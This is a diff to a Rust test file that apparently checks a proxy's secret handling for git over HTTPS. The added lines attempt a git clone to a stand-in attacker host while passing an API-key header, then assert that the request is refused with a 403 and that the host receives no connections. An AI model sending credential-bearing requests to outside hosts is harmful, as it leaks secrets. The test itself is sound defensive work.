@@ -220,4 +220,10 @@ async fn git_clone_over_https() {
     must(&world, Path::new("git"), &["-c", "http.extraHeader=X-Token: {secrets.crm.apiKey}", "clone", "-q", &url, "cloned"], "")
         .await;
     assert_eq!(std::fs::read_to_string(world.proxy.path("cloned/file")).expect("cloned"), "content");
+    let evil = format!("https://{EVIL}/repo.git");
+    let header = "http.extraHeader=X-Token: {secrets.crm.apiKey}";
+    let refused = run(&world, Path::new("git"), &["-c", header, "clone", "-q", &evil, "elsewhere"], "").await;
+    assert!(!refused.status.success());
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("403"), "{}", String::from_utf8_lossy(&refused.stderr));
+    assert_eq!(world.evil.connections(), 0);
 }
